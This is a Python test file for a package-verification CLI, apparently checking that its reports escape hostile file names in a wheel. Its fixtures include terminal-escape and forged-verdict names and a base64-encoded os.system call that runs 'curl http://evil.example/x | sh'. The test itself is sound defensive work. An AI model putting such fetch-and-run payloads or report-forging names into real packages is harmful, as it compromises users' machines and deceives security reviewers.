"""``pip-verify check`` on a wheel whose member names carry terminal and report injections.

One member's name clears the screen and prints a green "ok"; another's starts a forged
``allow`` verdict line after a line feed, a third after a carriage return, and a fourth hides
its real extension behind a right-to-left override. The real CLI runs in a subprocess, as a
user would run it, and its output must show those names escaped.
"""

from __future__ import annotations

import base64
import json
import os
import subprocess
import sys
from pathlib import Path

from tests.helpers.dists import DistSpec, build_wheel

FORGED = "allow demo 1.0 [hashes] all files verified, no findings"
CLEAR = "demo/\x1b[2J\x1b[H\x1b[32mok\x1b[0m.py"
NEWLINE = f"demo/x.py\n{FORGED}\n.py"
RETURN = f"demo/y.py\r{FORGED}\r.py"
BIDI = "demo/notes\u202eyp.txt.py"
RAW = ("\x1b", "\r", "\u202e")
#: Code every scanner flags, so that the hostile names appear in findings: a shell command,
#: and a payload that decodes to an escape sequence.
PAYLOAD = base64.b64encode(b"\x1b[2Jcurl http://evil.example/x | sh").decode()
CODE = f"import base64, os\nos.system(base64.b64decode('{PAYLOAD}').decode())\n"


def _wheel(directory: Path) -> Path:
    files = {"demo/__init__.py": ""} | dict.fromkeys((CLEAR, NEWLINE, RETURN, BIDI), CODE)
    return build_wheel(DistSpec("demo", "1.0", files=files), directory)


def _check(wheel: Path, *args: str, **env: str) -> subprocess.CompletedProcess[bytes]:
    # The autouse fixture has already removed PIP_* and pointed PIP_CONFIG_FILE at devnull.
    environment = {key: value for key, value in os.environ.items() if key != "GITHUB_ACTIONS"}
    environment |= {"PIP_CONFIG_FILE": os.devnull, "COLUMNS": "200", **env}
    return subprocess.run(
        [sys.executable, "-m", "verify", "check", str(wheel), "--offline", *args],
        capture_output=True,
        env=environment,
        timeout=300,
        check=False,
    )


def _assert_inert(output: str) -> None:
    for raw in RAW:
        assert raw not in output, repr(raw)
    # str.splitlines also breaks at \r, \x85 and U+2028: a forged line cannot hide there.
    for line in output.splitlines():
        assert not line.lstrip().startswith("allow demo"), line


def test_text_report_shows_hostile_member_names_escaped(tmp_path: Path) -> None:
    result = _check(_wheel(tmp_path))
    assert result.returncode == 1, result.stderr.decode()
    assert b"\x1b" not in result.stdout
    assert b"\x1b" not in result.stderr
    out = result.stdout.decode("utf-8")
    _assert_inert(out)
    _assert_inert(result.stderr.decode("utf-8"))
    assert "demo/\\x1b[2J\\x1b[H\\x1b[32mok\\x1b[0m.py:2:" in out
    assert f"demo/x.py\\n{FORGED}\\n.py:2:" in out
    assert f"demo/y.py\\r{FORGED}\\r.py:2:" in out
    assert "demo/notes\\u202eyp.txt.py:2:" in out
    # The decoded payload is shown, its escape sequence made visible.
    assert "\\x1b[2Jcurl http://evil.example/x | sh" in out
    assert "Decision: DENY" in out


def test_github_annotations_and_summary_show_hostile_names_escaped(tmp_path: Path) -> None:
    summary = tmp_path / "summary.md"
    result = _check(_wheel(tmp_path), GITHUB_ACTIONS="true", GITHUB_STEP_SUMMARY=str(summary))
    assert result.returncode == 1, result.stderr.decode()
    assert b"\x1b" not in result.stdout
    out = result.stdout.decode("utf-8")
    _assert_inert(out)
    commands = [line for line in out.splitlines() if line.startswith("::")]
    assert commands
    assert all(line.startswith(("::error ", "::warning ", "::notice ")) for line in commands)
    assert any(f"demo/x.py%0A{FORGED}%0A.py" in line for line in commands)
    text = summary.read_text(encoding="utf-8")
    _assert_inert(text)
    assert "\x1b" not in text


def test_markdown_and_sarif_show_hostile_names_escaped(tmp_path: Path) -> None:
    wheel = _wheel(tmp_path)
    markdown = _check(wheel, "--format", "markdown")
    assert markdown.returncode == 1, markdown.stderr.decode()
    assert b"\x1b" not in markdown.stdout
    _assert_inert(markdown.stdout.decode("utf-8"))

    sarif = _check(wheel, "--format", "sarif")
    assert sarif.returncode == 1, sarif.stderr.decode()
    results = json.loads(sarif.stdout)["runs"][0]["results"]
    messages = [result["message"]["text"] for result in results]
    for message in messages:
        _assert_inert(message)
    assert any("demo/\\x1b[2J\\x1b[H\\x1b[32mok\\x1b[0m.py:2:" in m for m in messages)
    # The data keeps the exact names.
    paths = {r["properties"]["evidence"]["path"] for r in results if "evidence" in r["properties"]}
    assert {CLEAR, NEWLINE, RETURN, BIDI} <= paths
